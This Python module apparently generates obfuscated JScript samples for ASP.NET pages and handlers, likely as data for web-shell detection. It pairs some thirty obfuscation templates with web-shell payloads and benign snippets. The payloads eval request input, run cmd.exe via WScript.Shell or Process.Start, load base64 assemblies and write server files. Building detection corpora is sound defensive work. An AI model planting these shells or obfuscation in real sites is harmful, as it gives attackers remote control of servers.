"""JScript.NET and JScript of classic ASP: how texts are hidden, what shells and others do."""

from __future__ import annotations

import json

from obfuscated_csharp import commented, escaped
from obfuscation import (
    Deed,
    Language,
    Way,
    as_it_is,
    base64_,
    each,
    every_second,
    hexadecimal,
    mirrored,
    multiplied,
    numbers_text,
    percents,
    picked,
    pieces,
    reversed_,
    shifted,
    stuffed,
    xored,
    xored_by_word,
)

_LOOP = "for(var $i=0;$i<$a.length;$i++)"
_WAYS = (
    Way("pieces", pieces("+"), "$bare"),
    Way("join", pieces(","), '[$bare].join("")'),
    Way("concat", pieces(","), '"".concat($bare)'),
    Way("escapes", each("\\u$u", ""), '"$bare"'),
    Way("hex escapes", each("\\x$x", ""), '"$bare"'),
    Way("fromCharCode", each("$n", ","), "String.fromCharCode($bare)"),
    Way("fromCharCode of sums", each("$more-$less", ","), "String.fromCharCode($bare)"),
    Way("fromCharCode one by one", each("String.fromCharCode(0x$x)", "+"), "$bare"),
    Way("reverse", reversed_, '$data.split("").reverse().join("")'),
    Way("split and join", stuffed, '$data.split($junk).join("")'),
    Way("unescape", percents, "unescape($data)"),
    Way("decodeURIComponent", percents, "decodeURIComponent($data)"),
    Way("base64", base64_,
        "System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String($data))"),
    Way("xor of an array", xored, "$r",
        'var $a=[$bare],$r="";' + _LOOP + "{$r+=String.fromCharCode($a[$i]^$key);}"),
    Way("xor in while", xored, "$r",
        'var $a=[$bare],$r="",$i=0;while($i<$a.length){$r+=String.fromCharCode($a[$i]^$key);'
        "$i++;}"),
    Way("for in", xored, "$r",
        'var $a=[$bare],$r="";for(var $i in $a){$r+=String.fromCharCode($a[$i]^$key);}'),
    Way("xor by a word", xored_by_word, "$f([$bare],$word)", "",
        'function $f($a,$k){var $r="";' + _LOOP
        + "$r+=String.fromCharCode($a[$i]^$k.charCodeAt($i%$k.length));return $r;}"),
    Way("array filled", multiplied, '$a.join("")',
        "var $a=[$bare];" + _LOOP + "$a[$i]=String.fromCharCode($a[$i]/$key);"),
    Way("push", multiplied, '$b.join("")',
        "var $a=[$bare],$b=[];" + _LOOP + "$b.push(String.fromCharCode($a[$i]/$key));"),
    Way("shift", shifted, "$f($data)", "",
        'function $f($a){var $r="";' + _LOOP
        + "{$r+=String.fromCharCode($a.charCodeAt($i)-$key);}return $r;}"),
    Way("from the end", reversed_, "$f($data)", "",
        'function $f($a){var $r="";for(var $i=$a.length-1;$i>=0;$i--)$r+=$a.charAt($i);'
        "return $r;}"),
    Way("every second letter", every_second, "$r",
        'var $d=$data,$r="";for(var $i=0;$i<$d.length;$i+=2)$r+=$d.charAt($i);'),
    Way("recursion", shifted, "$f($data)", "",
        'function $f($a){return $a.length?String.fromCharCode($a.charCodeAt(0)-$key)+'
        '$f($a.substring(1)):"";}'),
    Way("indexOf in letters", mirrored, "$f($data)", "",
        'function $f($a){var $k=$letters,$r="";' + _LOOP + "{var $p=$k.indexOf($a.charAt($i));"
        "$r+=$p<0?$a.charAt($i):$k.charAt($k.length-1-$p);}return $r;}"),
    Way("letters by their places", picked("$held.charAt($at)", "+"), "$bare",
        "var $held=$letters;"),
    Way("letters by index", picked("$held[$at]", "+"), "$bare", 'var $held=$letters.split("");'),
    Way("numbers by split", numbers_text, "$f($data)", "",
        'function $f($a){var $p=$a.split(","),$r="";for(var $i=0;$i<$p.length;$i++)'
        "$r+=String.fromCharCode(parseInt($p[$i])-$key);return $r;}"),
    Way("hex", hexadecimal, "$r",
        'var $r="",$p=$data;for(var $i=0;$i<$p.length;$i+=2)'
        "$r+=String.fromCharCode(parseInt($p.substr($i,2),16));"),
    Way("hex of letters", hexadecimal, "$f($data)", "",
        'function $f($p){var $r="";for(var $i=0;$i<$p.length;$i+=2)'
        '$r+=String.fromCharCode("0x"+$p.substr($i,2));return $r;}'),
    Way("function value", shifted, "$f($data)",
        'var $f=function($a){var $r="";' + _LOOP
        + "$r+=String.fromCharCode($a.charCodeAt($i)-$key);return $r;};"),
    Way("called where it stands", shifted,
        '(function($a){var $r="";' + _LOOP
        + "$r+=String.fromCharCode($a.charCodeAt($i)-$key);return $r;})($data)"),
    Way("as it is", as_it_is, "$data"),
)  # fmt: skip

_SHELLS = (
    Deed("run-code", "eval($asked,«unsafe»);"),
    Deed("run-code", "eval(«eval(Request.Item['z'],'unsafe')»,«unsafe»);"),
    Deed("run-code", "var $v=$asked;var $e=«unsafe»;eval($v,$e);"),
    Deed("run-code", "var $f=eval;$f($asked,«unsafe»);"),
    Deed("run-code", "this[«eval»]($asked,«unsafe»);"),
    Deed("run-code", "new Function($asked)();"),
    Deed("run-code", "[][«constructor»][«constructor»]($asked)();"),
    Deed("run-commands", "var $v=new ActiveXObject(«WScript.Shell»);Response.Write($v.Exec("
         "«cmd /c »+$asked).StdOut.ReadAll());"),
    Deed("run-commands", "var $v=new ActiveXObject(«WScript.Shell»);$v[«Run»]($asked);"),
    Deed("run-commands", "System.Diagnostics.Process.Start(«cmd.exe»,«/c »+$asked);"),
    Deed("load-code", "System.Reflection.Assembly.Load(System.Convert.FromBase64String($asked))"
         ".CreateInstance(«U»);"),
    Deed("write-files", "var $f=new ActiveXObject(«Scripting.FileSystemObject»);var $t="
         "$f.CreateTextFile(Server.MapPath($asked),true);$t.Write($asked);$t.Close();"),
    Deed("write-files", "System.IO.File.WriteAllText(Server.MapPath($asked),$asked);"),
)  # fmt: skip

_HARMLESS = (
    Deed("e-mail address", "Response.Write(«mailto:info@example.org»);"),
    Deed("captcha", "if(String(Session(«captcha»))==$asked)Response.Write(«ok»);"),
    Deed("template",
         "Response.Write(«<b>{name}</b>».replace(«{name}»,Server.HTMLEncode($asked)));"),
    Deed("way on", "Response.Redirect(«/default.aspx?id=»+Server.UrlEncode($asked));"),
    Deed("news from a file", "var $f=new ActiveXObject(«Scripting.FileSystemObject»);"
         "Response.Write($f.OpenTextFile(Server.MapPath(«news.txt»)).ReadAll());"),
    Deed("list for a spreadsheet", "Response.AddHeader(«Content-Disposition»,«attachment; "
         "filename=list.csv»);var $p=$asked.split(«;»);for(var $i=0;$i<$p.length;$i++)"
         "Response.Write($p[$i]+«,»);"),
    Deed("words", "var $w={};$w[«de»]=«Guten Tag»;$w[«en»]=«Good day»;Response.Write($w[$asked]);"),
    Deed("cookie", "Response.Cookies(«theme»)=$asked;"),
)  # fmt: skip

JSCRIPT = Language(
    name="JScript",
    quote=json.dumps,
    ways=_WAYS,
    asked=(
        'Request.Item["$k"]', 'Request.Form["$k"]', 'Request.QueryString["$k"]',
        'Request.Headers["$k"]', 'Request["$k"]', "Request.Item[«$k»]", 'Request.Params["$k"]',
        'unescape(Request.Item["$k"])', 'Request.Item["$k"].split("").reverse().join("")',
        'System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["$k"]))',
    ),
    keeps=(
        ("var $v=$value;", "$v"), ("var $v:String=$value;", "$v"),
        ('Session["$v"]=$value;', 'Session["$v"]'), ("var $v=[0,$value];", "$v[1]"),
        ("var $v={$k:$value};", "$v.$k"), ('var $v={};$v["$k"]=$value;', '$v["$k"]'),
        ("var $v;if(1==1){$v=$value;}", "$v"), ("var $v=function(){return $value;};", "$v()"),
    ),
    padding=(
        "if(1==2){var $v=3;}", "var $n=3;$n+=4;", "/* $v */", "// $v", 'var $v="$w";',
        "try{var $i=1;}catch($e){}",
    ),
    shells=_SHELLS,
    harmless=_HARMLESS,
    wraps=(
        ("aspx", '<%@ Page Language="Jscript"%><%\n$functions\n$body\n%>'),
        ("aspx", '<%@ Page Language="JScript"%><script runat="server">\n$functions\n'
                 "function Page_Load(){\n$body\n}\n</script>"),
        ("ashx", '<%@ WebHandler Language="JScript" Class="H"%>\nimport System;import System.Web;\n'
                 "public class H implements IHttpHandler{\n$functions\n"
                 "function IHttpHandler.ProcessRequest(context:HttpContext){var Request="
                 "context.Request;var Response=context.Response;var Server=context.Server;\n"
                 "$body\n}}"),
    ),
    spellings=(commented, escaped),
)  # fmt: skip
